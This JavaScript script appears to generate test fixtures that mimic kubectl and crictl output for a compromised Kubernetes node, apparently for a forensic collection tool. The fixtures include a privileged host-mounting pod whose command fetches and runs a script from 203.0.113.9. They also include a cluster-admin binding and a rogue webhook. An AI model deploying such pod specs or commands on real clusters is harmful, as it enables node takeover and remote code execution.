// Writes fixtures/k8s and fixtures/cri: what kubectl 1.28 and crictl 1.28 print for a small
// compromised node. No cluster or CRI runtime exists on the recording machine, so these are
// written by hand, field for field after the real tools' output:
// - kubectl -o json: a "List" of full objects, keys sorted (Go marshals unstructured maps
//   sorted), 4-space indentation, trailing newline.
// - crictl -o json / inspect: protobuf-JSON field names (camelCase) in proto order, 2-space
//   indentation; inspect = {"status": CRI ContainerStatus, "info": containerd's extra info}.
// Run: node test/collect/stubs/make-fixtures.mjs
import { mkdirSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { fileURLToPath } from 'node:url';

const FIX = join(dirname(fileURLToPath(import.meta.url)), 'fixtures');
const write = (rel, text) => {
  const p = join(FIX, rel);
  mkdirSync(dirname(p), { recursive: true });
  writeFileSync(p, text);
};
const sortKeys = (v) =>
  Array.isArray(v) ? v.map(sortKeys)
    : v && typeof v === 'object' ? Object.fromEntries(Object.keys(v).sort().map((k) => [k, sortKeys(v[k])]))
      : v;
const kjson = (v) => JSON.stringify(sortKeys(v), null, 4) + '\n';
const klist = (items) => kjson({ apiVersion: 'v1', items, kind: 'List', metadata: { resourceVersion: '' } });
const cjson = (v) => JSON.stringify(v, null, 2) + '\n';

const NODE = 'cp-1';
const T0 = '2026-11-20T09:14:02Z';
const meta = (name, namespace, extra = {}) => ({
  creationTimestamp: T0, name, ...(namespace ? { namespace } : {}),
  resourceVersion: String(1000 + name.length), uid: `0b6d1c1e-${name.length.toString(16).padStart(4, '0')}-4c1e-9a51-6a1f2b3c4d5e`,
  ...extra,
});

// ---------------------------------------------------------------- kubectl
write('k8s/version.json', JSON.stringify({
  clientVersion: { major: '1', minor: '28', gitVersion: 'v1.28.4', gitCommit: 'bae2c62678db2b5053817bc97181fcc2e8388103', gitTreeState: 'clean', buildDate: '2023-11-15T16:58:22Z', goVersion: 'go1.20.11', compiler: 'gc', platform: 'linux/amd64' },
  kustomizeVersion: 'v5.0.4-0.20230601165947-6ce0bf390ce3',
  serverVersion: { major: '1', minor: '28', gitVersion: 'v1.28.4', gitCommit: 'bae2c62678db2b5053817bc97181fcc2e8388103', gitTreeState: 'clean', buildDate: '2023-11-15T16:48:54Z', goVersion: 'go1.20.11', compiler: 'gc', platform: 'linux/amd64' },
}, null, 2) + '\n');
write('k8s/cluster-info.txt', 'Kubernetes control plane is running at https://10.0.0.10:6443\nCoreDNS is running at https://10.0.0.10:6443/api/v1/namespaces/kube-system/services/kube-dns:dns/proxy\n\nTo further debug and diagnose cluster problems, use \'kubectl cluster-info dump\'.\n');

write('k8s/nodes.json', klist([{
  apiVersion: 'v1', kind: 'Node',
  metadata: meta(NODE, null, { annotations: { 'kubeadm.alpha.kubernetes.io/cri-socket': 'unix:///var/run/containerd/containerd.sock', 'node.alpha.kubernetes.io/ttl': '0', 'volumes.kubernetes.io/controller-managed-attach-detach': 'true' }, labels: { 'beta.kubernetes.io/arch': 'amd64', 'beta.kubernetes.io/os': 'linux', 'kubernetes.io/arch': 'amd64', 'kubernetes.io/hostname': NODE, 'kubernetes.io/os': 'linux', 'node-role.kubernetes.io/control-plane': '' } }),
  spec: { podCIDR: '10.244.0.0/24', podCIDRs: ['10.244.0.0/24'] },
  status: {
    addresses: [{ address: '10.0.0.10', type: 'InternalIP' }, { address: NODE, type: 'Hostname' }],
    allocatable: { cpu: '2', 'ephemeral-storage': '37206351086', memory: '3927876Ki', pods: '110' },
    capacity: { cpu: '2', 'ephemeral-storage': '40371264Ki', memory: '4030276Ki', pods: '110' },
    conditions: [{ lastHeartbeatTime: '2026-12-03T08:00:00Z', lastTransitionTime: T0, message: 'kubelet is posting ready status', reason: 'KubeletReady', status: 'True', type: 'Ready' }],
    daemonEndpoints: { kubeletEndpoint: { Port: 10250 } },
    nodeInfo: { architecture: 'amd64', bootID: 'b3b0d2c4-5d1f-4d55-9a0e-2f5a0e6a7c11', containerRuntimeVersion: 'containerd://1.7.2', kernelVersion: '6.1.0-13-amd64', kubeProxyVersion: 'v1.28.4', kubeletVersion: 'v1.28.4', machineID: '4c4c4544004a4d10804bb7c04f4d3232', operatingSystem: 'linux', osImage: 'Debian GNU/Linux 12 (bookworm)', systemUUID: '4c4c4544-004a-4d10-804b-b7c04f4d3232' },
  },
}]));

const ns = (name, labels = {}) => ({ apiVersion: 'v1', kind: 'Namespace', metadata: meta(name, null, { labels: { 'kubernetes.io/metadata.name': name, ...labels } }), spec: { finalizers: ['kubernetes'] }, status: { phase: 'Active' } });
write('k8s/namespaces.json', klist([ns('default'), ns('kube-system'), ns('kube-public'), ns('payments', { 'pod-security.kubernetes.io/enforce': 'privileged' })]));

const container = (name, image, extra = {}) => ({ image, imagePullPolicy: 'IfNotPresent', name, resources: {}, terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File', ...extra });
const pod = (name, namespace, spec, phase = 'Running', labels = {}) => ({
  apiVersion: 'v1', kind: 'Pod',
  metadata: meta(name, namespace, { labels }),
  spec: { dnsPolicy: 'ClusterFirst', enableServiceLinks: true, nodeName: NODE, preemptionPolicy: 'PreemptLowerPriority', priority: 0, restartPolicy: 'Always', schedulerName: 'default-scheduler', securityContext: {}, serviceAccount: 'default', serviceAccountName: 'default', terminationGracePeriodSeconds: 30, tolerations: [{ effect: 'NoExecute', key: 'node.kubernetes.io/not-ready', operator: 'Exists', tolerationSeconds: 300 }], ...spec },
  status: { conditions: [{ lastProbeTime: null, lastTransitionTime: T0, status: 'True', type: 'Ready' }], containerStatuses: spec.containers.map((c, i) => ({ containerID: `containerd://${CIDS[name]?.[i] ?? 'f'.repeat(64)}`, image: c.image, imageID: `docker.io/library/${c.image.split(':')[0]}@sha256:${'a'.repeat(64)}`, lastState: {}, name: c.name, ready: true, restartCount: 0, started: true, state: { running: { startedAt: T0 } } })), hostIP: '10.0.0.10', phase, podIP: spec.hostNetwork ? '10.0.0.10' : '10.244.0.7', podIPs: [{ ip: spec.hostNetwork ? '10.0.0.10' : '10.244.0.7' }], qosClass: 'BestEffort', startTime: T0 },
});
const CIDS = {
  'node-debugger-x7k2p': ['9f1c2b3a4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8'],
  'web-6d4cf56db6-abcde': ['1a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f809'],
};
const pods = [
  pod('web-6d4cf56db6-abcde', 'default', { containers: [container('web', 'nginx:1.25', { ports: [{ containerPort: 80, protocol: 'TCP' }] })] }, 'Running', { app: 'web' }),
  pod('node-debugger-x7k2p', 'payments', {
    automountServiceAccountToken: true, hostIPC: true, hostNetwork: true, hostPID: true,
    containers: [container('shell', 'busybox:latest', { command: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh; sleep 1d'], securityContext: { privileged: true, runAsUser: 0, capabilities: { add: ['SYS_ADMIN', 'SYS_PTRACE'] } }, volumeMounts: [{ mountPath: '/host', name: 'host-root' }, { mountPath: '/var/run/docker.sock', name: 'docker-sock' }] })],
    volumes: [{ hostPath: { path: '/', type: '' }, name: 'host-root' }, { hostPath: { path: '/var/run/docker.sock', type: 'Socket' }, name: 'docker-sock' }],
  }),
  pod('tetragon-5xq9z', 'kube-system', { containers: [container('export-stdout', 'quay.io/cilium/hubble-export-stdout:v1.0.3'), container('tetragon', 'quay.io/cilium/tetragon:v1.0.0', { securityContext: { privileged: true } })], hostNetwork: true, serviceAccount: 'tetragon', serviceAccountName: 'tetragon' }, 'Running', { 'app.kubernetes.io/name': 'tetragon' }),
];
write('k8s/pods.json', klist(pods));
write('k8s/pods-tetragon.txt', 'kube-system tetragon-5xq9z\n');
write('k8s/pods-falco.txt', '');
write('k8s/pods-tracee.txt', '');
write('k8s/logs/kube-system_tetragon-5xq9z.log',
  `2026-12-03T07:59:58.123456789Z {"process_exec":{"process":{"exec_id":"Y3AtMTo0NTY3ODk6MTIzNDU=","pid":12345,"uid":0,"cwd":"/","binary":"/bin/sh","arguments":"-c \\"wget -qO- http://203.0.113.9/x | sh\\"","flags":"execve clone","start_time":"2026-12-03T07:59:58.120000000Z","auid":4294967295,"pod":{"namespace":"payments","name":"node-debugger-x7k2p","container":{"id":"containerd://${CIDS['node-debugger-x7k2p'][0]}","name":"shell","image":{"id":"docker.io/library/busybox@sha256:${'a'.repeat(64)}","name":"docker.io/library/busybox:latest"},"start_time":"${T0}","pid":1},"pod_labels":{}},"docker":"9f1c2b3a4d5e6f708192a3b4c5d6e7f","parent_exec_id":"Y3AtMTo0NTY3MDA6MTIzMDA=","tid":12345},"parent":{"exec_id":"Y3AtMTo0NTY3MDA6MTIzMDA=","pid":12300,"binary":"/usr/bin/containerd-shim-runc-v2"}},"node_name":"${NODE}","time":"2026-12-03T07:59:58.123456789Z"}\n`);

const emptyList = klist([]);
for (const k of ['statefulsets', 'jobs', 'cronjobs', 'networkpolicies', 'validatingwebhookconfigurations', 'roles', 'rolebindings']) write(`k8s/${k}.json`, emptyList);
write('k8s/deployments.json', klist([{ apiVersion: 'apps/v1', kind: 'Deployment', metadata: meta('web', 'default', { annotations: { 'deployment.kubernetes.io/revision': '1' }, generation: 1 }), spec: { progressDeadlineSeconds: 600, replicas: 1, revisionHistoryLimit: 10, selector: { matchLabels: { app: 'web' } }, strategy: { rollingUpdate: { maxSurge: '25%', maxUnavailable: '25%' }, type: 'RollingUpdate' }, template: { metadata: { creationTimestamp: null, labels: { app: 'web' } }, spec: { containers: [container('web', 'nginx:1.25')], dnsPolicy: 'ClusterFirst', restartPolicy: 'Always', schedulerName: 'default-scheduler', securityContext: {}, terminationGracePeriodSeconds: 30 } } }, status: { availableReplicas: 1, observedGeneration: 1, readyReplicas: 1, replicas: 1, updatedReplicas: 1 } }]));
write('k8s/daemonsets.json', klist([{ apiVersion: 'apps/v1', kind: 'DaemonSet', metadata: meta('tetragon', 'kube-system', { generation: 1, labels: { 'app.kubernetes.io/name': 'tetragon' } }), spec: { revisionHistoryLimit: 10, selector: { matchLabels: { 'app.kubernetes.io/name': 'tetragon' } }, template: { metadata: { creationTimestamp: null, labels: { 'app.kubernetes.io/name': 'tetragon' } }, spec: { containers: [container('tetragon', 'quay.io/cilium/tetragon:v1.0.0', { securityContext: { privileged: true } })], hostNetwork: true, serviceAccountName: 'tetragon' } }, updateStrategy: { rollingUpdate: { maxSurge: 0, maxUnavailable: 1 }, type: 'RollingUpdate' } }, status: { currentNumberScheduled: 1, desiredNumberScheduled: 1, numberAvailable: 1, numberMisscheduled: 0, numberReady: 1, observedGeneration: 1, updatedNumberScheduled: 1 } }]));
write('k8s/serviceaccounts.json', klist([
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: meta('default', 'default') },
  { apiVersion: 'v1', kind: 'ServiceAccount', metadata: meta('default', 'payments') },
  { apiVersion: 'v1', automountServiceAccountToken: true, kind: 'ServiceAccount', metadata: meta('ci-deployer', 'payments') },
]));
write('k8s/clusterroles.json', klist([
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: meta('cluster-admin', null, { annotations: { 'rbac.authorization.kubernetes.io/autoupdate': 'true' }, labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } }), rules: [{ apiGroups: ['*'], resources: ['*'], verbs: ['*'] }, { nonResourceURLs: ['*'], verbs: ['*'] }] },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRole', metadata: meta('secret-reader', null), rules: [{ apiGroups: [''], resources: ['secrets'], verbs: ['get', 'list', 'watch'] }] },
]));
write('k8s/clusterrolebindings.json', klist([
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: meta('ci-deployer-admin', null), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ kind: 'ServiceAccount', name: 'ci-deployer', namespace: 'payments' }] },
  { apiVersion: 'rbac.authorization.k8s.io/v1', kind: 'ClusterRoleBinding', metadata: meta('cluster-admin', null, { labels: { 'kubernetes.io/bootstrapping': 'rbac-defaults' } }), roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: 'cluster-admin' }, subjects: [{ apiGroup: 'rbac.authorization.k8s.io', kind: 'Group', name: 'system:masters' }] },
]));
write('k8s/mutatingwebhookconfigurations.json', klist([{ apiVersion: 'admissionregistration.k8s.io/v1', kind: 'MutatingWebhookConfiguration', metadata: meta('pod-sidecar-injector', null, { generation: 1 }), webhooks: [{ admissionReviewVersions: ['v1'], clientConfig: { url: 'https://198.51.100.23:8443/mutate' }, failurePolicy: 'Ignore', matchPolicy: 'Equivalent', name: 'inject.sidecar.io', namespaceSelector: {}, objectSelector: {}, reinvocationPolicy: 'Never', rules: [{ apiGroups: [''], apiVersions: ['v1'], operations: ['CREATE'], resources: ['pods'], scope: '*' }], sideEffects: 'None', timeoutSeconds: 10 }] }]));
write('k8s/events.json', klist([{ apiVersion: 'v1', count: 1, eventTime: null, firstTimestamp: '2026-12-03T07:59:50Z', involvedObject: { apiVersion: 'v1', kind: 'Pod', name: 'node-debugger-x7k2p', namespace: 'payments', resourceVersion: '1019', uid: '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e' }, kind: 'Event', lastTimestamp: '2026-12-03T07:59:50Z', message: 'Successfully assigned payments/node-debugger-x7k2p to cp-1', metadata: meta('node-debugger-x7k2p.17a1b2c3d4e5f607', 'payments'), reason: 'Scheduled', reportingComponent: 'default-scheduler', reportingInstance: '', source: { component: 'default-scheduler' }, type: 'Normal' }]));
write('k8s/crds.txt', 'customresourcedefinition.apiextensions.k8s.io/podinfo.cilium.io\ncustomresourcedefinition.apiextensions.k8s.io/tracingpolicies.cilium.io\ncustomresourcedefinition.apiextensions.k8s.io/tracingpoliciesnamespaced.cilium.io\n');
write('k8s/tracingpolicies.json', klist([{ apiVersion: 'cilium.io/v1alpha1', kind: 'TracingPolicy', metadata: meta('fd-install', null, { generation: 1 }), spec: { kprobes: [{ call: 'fd_install', syscall: false, args: [{ index: 0, type: 'int' }, { index: 1, type: 'file' }], selectors: [{ matchArgs: [{ index: 1, operator: 'Prefix', values: ['/etc/shadow'] }] }] }] } }]));
write('k8s/tracingpoliciesnamespaced.json', emptyList);
// secrets: what the metadata-only jsonpath template prints (header row included)
write('k8s/secrets-metadata.tsv', 'namespace\tname\ttype\tcreated\tuid\tservice_account\tlabels\n'
  + `payments\tdb-credentials\tOpaque\t${T0}\t5d7c9a1e-0001-4f6e-8b2a-1c3d5e7f9a0b\t\t{"app":"payments"}\n`
  + `payments\tci-deployer-token\tkubernetes.io/service-account-token\t${T0}\t5d7c9a1e-0002-4f6e-8b2a-1c3d5e7f9a0b\tci-deployer\t\n`);

// ---------------------------------------------------------------- crictl
const POD = 'a3f1c9e2b7d64e0f9c8b7a6d5e4f3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d';
const CTR = '9f1c2b3a4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8';
const IMG = 'sha256:' + '7b3ccabffc97de872a30dfd234fd972a66d247c8cfc69b0550f276481852627c'.slice(0, 64);
write('cri/version.txt', 'Version:  0.1.0\nRuntimeName:  containerd\nRuntimeVersion:  v1.7.2\nRuntimeApiVersion:  v1\n');
write('cri/info.json', cjson({ status: { conditions: [{ type: 'RuntimeReady', status: true, reason: '', message: '' }, { type: 'NetworkReady', status: true, reason: '', message: '' }] }, cniconfig: { PluginDirs: ['/opt/cni/bin'], PluginConfDir: '/etc/cni/net.d', PluginMaxConfNum: 1, Prefix: 'eth' }, config: { containerd: { snapshotter: 'overlayfs', defaultRuntimeName: 'runc' }, enableSelinux: false, sandboxImage: 'registry.k8s.io/pause:3.8', enableUnprivilegedPorts: false }, golang: 'go1.20.5', lastCNILoadStatus: 'OK' }));
write('cri/pods.json', cjson({ items: [{ id: POD, metadata: { name: 'node-debugger-x7k2p', uid: '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e', namespace: 'payments', attempt: 0 }, state: 'SANDBOX_READY', createdAt: '1796198042000000000', labels: { 'io.kubernetes.pod.name': 'node-debugger-x7k2p', 'io.kubernetes.pod.namespace': 'payments', 'io.kubernetes.pod.uid': '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e' }, annotations: { 'kubernetes.io/config.seen': T0, 'kubernetes.io/config.source': 'api' }, runtimeHandler: '' }] }));
write('cri/ps.json', cjson({ containers: [{ id: CTR, podSandboxId: POD, metadata: { name: 'shell', attempt: 0 }, image: { image: IMG, annotations: {}, userSpecifiedImage: '', runtimeHandler: '' }, imageRef: IMG, state: 'CONTAINER_RUNNING', createdAt: '1796198043000000000', labels: { 'io.kubernetes.container.name': 'shell', 'io.kubernetes.pod.name': 'node-debugger-x7k2p', 'io.kubernetes.pod.namespace': 'payments', 'io.kubernetes.pod.uid': '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e' }, annotations: { 'io.kubernetes.container.hash': '3a1b2c4d', 'io.kubernetes.container.restartCount': '0' } }] }));
write('cri/images.json', cjson({ images: [{ id: IMG, repoTags: ['docker.io/library/busybox:latest'], repoDigests: [`docker.io/library/busybox@sha256:${'a'.repeat(64)}`], size: '2155185', uid: null, username: '', spec: null, pinned: false }] }));
const caps = ['CAP_CHOWN', 'CAP_DAC_OVERRIDE', 'CAP_SYS_ADMIN', 'CAP_SYS_PTRACE', 'CAP_NET_ADMIN'];
write(`cri/containers/${CTR}/inspect.json`, cjson({
  status: { id: CTR, metadata: { attempt: 0, name: 'shell' }, state: 'CONTAINER_RUNNING', createdAt: '2026-11-20T09:14:03.000000000Z', startedAt: '2026-11-20T09:14:03.500000000Z', finishedAt: '0001-01-01T00:00:00Z', exitCode: 0, image: { annotations: {}, image: 'docker.io/library/busybox:latest', userSpecifiedImage: '', runtimeHandler: '' }, imageRef: `docker.io/library/busybox@sha256:${'a'.repeat(64)}`, reason: '', message: '', labels: { 'io.kubernetes.container.name': 'shell', 'io.kubernetes.pod.name': 'node-debugger-x7k2p', 'io.kubernetes.pod.namespace': 'payments' }, annotations: { 'io.kubernetes.container.restartCount': '0' }, mounts: [{ containerPath: '/host', hostPath: '/', propagation: 'PROPAGATION_PRIVATE', readonly: false, selinuxRelabel: false, uidMappings: [], gidMappings: [] }, { containerPath: '/var/run/docker.sock', hostPath: '/var/run/docker.sock', propagation: 'PROPAGATION_PRIVATE', readonly: false, selinuxRelabel: false, uidMappings: [], gidMappings: [] }], logPath: `/var/log/pods/payments_node-debugger-x7k2p_0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e/shell/0.log`, resources: null },
  info: { sandboxID: POD, pid: 4242, removing: false, snapshotKey: CTR, snapshotter: 'overlayfs', runtimeType: 'io.containerd.runc.v2', runtimeOptions: { systemd_cgroup: true }, config: { metadata: { name: 'shell' }, image: { image: IMG }, command: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh; sleep 1d'], envs: [{ key: 'KUBERNETES_SERVICE_HOST', value: '10.96.0.1' }], mounts: [{ container_path: '/host', host_path: '/' }, { container_path: '/var/run/docker.sock', host_path: '/var/run/docker.sock' }], labels: { 'io.kubernetes.container.name': 'shell' }, log_path: 'shell/0.log', linux: { resources: {}, security_context: { privileged: true, namespace_options: { network: 2, pid: 2, ipc: 2 }, run_as_user: {}, capabilities: { add_capabilities: ['SYS_ADMIN', 'SYS_PTRACE'] }, seccomp: { profile_type: 0 } } } },
    runtimeSpec: { ociVersion: '1.1.0', process: { user: { uid: 0, gid: 0, additionalGids: [0, 10] }, args: ['sh', '-c', 'wget -qO- http://203.0.113.9/x | sh; sleep 1d'], env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'], cwd: '/', capabilities: { bounding: caps, effective: caps, permitted: caps }, oomScoreAdj: 1000 }, root: { path: 'rootfs' }, mounts: [{ destination: '/host', type: 'bind', source: '/', options: ['rbind', 'rprivate', 'rw'] }, { destination: '/var/run/docker.sock', type: 'bind', source: '/var/run/docker.sock', options: ['rbind', 'rprivate', 'rw'] }], linux: { cgroupsPath: `kubepods-besteffort-pod0b6d1c1e.slice:cri-containerd:${CTR}`, namespaces: [{ type: 'mount' }, { type: 'uts' }] } } },
}));
write(`cri/containers/${CTR}/logs.txt`, '2026-12-03T07:59:58.130000000Z wget: bad address \'203.0.113.9\'\n');
write(`cri/pods/${POD}/inspectp.json`, cjson({
  status: { id: POD, metadata: { attempt: 0, name: 'node-debugger-x7k2p', namespace: 'payments', uid: '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e' }, state: 'SANDBOX_READY', createdAt: '2026-11-20T09:14:02.500000000Z', network: { additionalIps: [], ip: '10.0.0.10' }, linux: { namespaces: { options: { ipc: 'NODE', network: 'NODE', pid: 'NODE', targetId: '', usernsOptions: null } } }, labels: { 'io.kubernetes.pod.name': 'node-debugger-x7k2p', 'io.kubernetes.pod.namespace': 'payments' }, annotations: { 'kubernetes.io/config.source': 'api' }, runtimeHandler: '' },
  info: { pid: 4200, processStatus: 'running', netNamespaceClosed: false, image: 'registry.k8s.io/pause:3.8', snapshotKey: POD, snapshotter: 'overlayfs', runtimeHandler: '', runtimeType: 'io.containerd.runc.v2', runtimeOptions: { systemd_cgroup: true }, config: { metadata: { name: 'node-debugger-x7k2p', uid: '0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e', namespace: 'payments' }, hostname: 'cp-1', log_directory: '/var/log/pods/payments_node-debugger-x7k2p_0b6d1c1e-0013-4c1e-9a51-6a1f2b3c4d5e', linux: { security_context: { namespace_options: { network: 2, pid: 2, ipc: 2 }, privileged: true } } } },
}));
write(`cri/images/${IMG.slice(7)}/inspecti.json`, cjson({ status: { id: IMG, repoTags: ['docker.io/library/busybox:latest'], repoDigests: [`docker.io/library/busybox@sha256:${'a'.repeat(64)}`], size: '2155185', uid: null, username: '', spec: null, pinned: false }, info: { chainID: 'sha256:' + 'b'.repeat(64), imageSpec: { created: '2023-07-18T23:19:33.655005962Z', architecture: 'amd64', os: 'linux', config: { Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'], Cmd: ['sh'] }, rootfs: { type: 'layers', diff_ids: ['sha256:' + 'c'.repeat(64)] }, history: [{ created: '2023-07-18T23:19:33.538571854Z', created_by: '/bin/sh -c #(nop) ADD file:7e9002edaafd4e4579b65c8f0aaabde1aeb7fd3f8d95579f7fd3443cef785fd1 in / ' }, { created: '2023-07-18T23:19:33.655005962Z', created_by: '/bin/sh -c #(nop)  CMD ["sh"]', empty_layer: true }] } } }));
console.log(`fixtures written under ${FIX}`);
